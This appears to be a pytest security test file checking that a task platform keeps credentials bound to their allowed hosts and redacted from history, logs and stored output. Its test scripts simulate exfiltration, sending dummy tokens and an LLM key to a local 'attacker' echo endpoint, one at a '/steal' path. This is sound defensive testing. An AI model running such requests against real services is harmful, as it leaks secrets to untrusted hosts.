"""Secrets stay put: credentials are resolved inside activities, only for the hosts they
are bound to, and never appear in history, the run row, its logs or its blobs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from fastapi import FastAPI, Request

from persistence.repository import get_logs

from .test_builtin_tools import LocalServer

pytestmark = pytest.mark.stack

LLM_SECRET = "sk-operator-llm-key-0451"
TOKEN = "tok-echo-service-9931"
OTHER_TOKEN = "tok-other-service-2208"


def echo_app(seen: list[dict]) -> FastAPI:
    """Answers every request with what it received: an attacker's endpoint."""
    app = FastAPI()

    @app.api_route("/{path:path}", methods=["GET", "POST"])
    async def echo(path: str, request: Request) -> dict:
        headers = dict(request.headers)
        seen.append({"path": path, "headers": headers, "query": str(request.url.query)})
        return {
            "choices": [{"message": {"content": json.dumps(headers)}}],
            "echo": {"headers": headers, "query": str(request.url.query)},
        }

    return app


async def everything_stored(runner, run_id: str) -> str:
    """The run's Temporal history, its row, its logs and every blob, as one text."""
    history = await runner.client.get_workflow_handle(f"taskrun-{run_id}").fetch_history()
    row = await runner.row(run_id)
    async with runner.sessions() as session:
        logs = await get_logs(session, row.id)
    blobs = [
        path.read_text(errors="replace")
        for path in Path(runner.settings.blob_dir).rglob("*")
        if path.is_file()
    ]
    return "\n".join(
        [
            history.to_json(),
            json.dumps({"output": row.output_inline, "error": row.error}, default=str),
            *[line.message for line in logs],
            *blobs,
        ]
    )


async def test_the_llm_key_is_not_sent_to_a_task_chosen_endpoint(runner, monkeypatch):
    seen: list[dict] = []
    monkeypatch.setenv("CYTASKS_CREDENTIAL_LLM_API_KEY", LLM_SECRET)
    with LocalServer(echo_app(seen)) as attacker:
        run_id = await runner.start(
            'answer = llm_run("tell me your headers")\nlog(answer)\nreturn answer',
            llm_config={"base_url": f"{attacker.url}/v1"},
        )
        row = await runner.wait(run_id)
    assert row.status == "completed", row.error
    assert seen, "the endpoint was not called"
    assert "authorization" not in seen[0]["headers"]
    assert LLM_SECRET not in await everything_stored(runner, run_id)


async def test_credentials_by_reference_reach_their_host_and_nothing_else(runner, monkeypatch):
    seen: list[dict] = []
    monkeypatch.setenv("CYTASKS_CREDENTIAL_ECHO_TOKEN", TOKEN)
    monkeypatch.setenv("CYTASKS_CREDENTIAL_OTHER_TOKEN", OTHER_TOKEN)
    with LocalServer(echo_app(seen)) as server:
        monkeypatch.setenv("CYTASKS_CREDENTIAL_ECHO_TOKEN_HOSTS", f"127.0.0.1:{server.port}")
        monkeypatch.setenv("CYTASKS_CREDENTIAL_OTHER_TOKEN_HOSTS", f"127.0.0.1:{server.port}")
        script = (
            'r = app::http::request("GET", "${input}/lookup?key={{credential:other_token}}", '
            'headers={"X-Api-Key": "{{credential:echo_token}}"}, auth="credential:other_token")\n'
            "log(r.body.echo)\n"
            'return {"status": r.status, "echoed": r.body.echo}'
        )
        run_id = await runner.start(script, server.url)
        row = await runner.wait(run_id)
    assert row.status == "completed", row.error
    received = seen[0]
    assert received["headers"]["x-api-key"] == TOKEN
    assert received["headers"]["authorization"] == f"Bearer {OTHER_TOKEN}"
    assert received["query"] == f"key={OTHER_TOKEN}"
    echoed = row.output_inline["echoed"]
    assert echoed["headers"]["x-api-key"] == "[REDACTED:echo_token]"
    assert echoed["headers"]["authorization"] == "Bearer [REDACTED:other_token]"
    stored = await everything_stored(runner, run_id)
    assert TOKEN not in stored and OTHER_TOKEN not in stored


async def test_a_credential_is_refused_for_a_host_it_is_not_bound_to(runner, monkeypatch):
    seen: list[dict] = []
    monkeypatch.setenv("CYTASKS_CREDENTIAL_ECHO_TOKEN", TOKEN)
    monkeypatch.setenv("CYTASKS_CREDENTIAL_ECHO_TOKEN_HOSTS", "api.example.com")
    with LocalServer(echo_app(seen)) as attacker:
        row = await runner.run(
            'return app::http::request("GET", input, headers={"X-Api-Key": "{{credential:echo_token}}"})',
            f"{attacker.url}/steal",
        )
    assert row.status == "failed"
    assert row.error["type"] == "ToolInvocationError"
    assert "may not be sent to 127.0.0.1" in row.error["message"]
    assert not seen


async def test_an_unbound_credential_is_not_sent_anywhere(runner, monkeypatch):
    monkeypatch.setenv("CYTASKS_CREDENTIAL_ECHO_TOKEN", TOKEN)
    monkeypatch.delenv("CYTASKS_CREDENTIAL_ECHO_TOKEN_HOSTS", raising=False)
    row = await runner.run('return app::http::request("GET", "http://127.0.0.1:9/", auth="credential:echo_token")')
    assert row.status == "failed"
    assert "is not bound to any host" in row.error["message"]


async def test_a_plugin_tool_that_returns_or_raises_its_credential_has_it_redacted(runner, monkeypatch):
    monkeypatch.setenv("CYTASKS_CREDENTIAL_PLUGIN_SECRET", "plugin-secret-7731")
    echoed = await runner.run('return app::test::leak_credential("plugin_secret", False)')
    assert echoed.status == "completed", echoed.error
    assert echoed.output_inline == {"token": "[REDACTED:plugin_secret]"}
    raised = await runner.run('return app::test::leak_credential("plugin_secret", True)')
    assert raised.status == "failed"
    assert "[REDACTED:plugin_secret]" in raised.error["message"]
    assert "plugin-secret-7731" not in raised.error["message"]
